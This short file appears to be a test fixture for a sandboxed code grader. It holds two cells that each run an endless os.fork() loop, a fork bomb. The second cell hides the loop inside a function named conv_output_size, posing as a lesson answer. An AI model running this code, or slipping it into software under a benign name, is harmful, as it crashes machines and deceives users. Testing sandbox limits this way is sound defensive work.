# what: processes that start processes, in a cell and in an answer
# lesson: 2
# zero: conv_output_size
# status: ok or died or timeout
# %%
import os

while True:
    os.fork()
# %%
import os


def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    while True:
        os.fork()
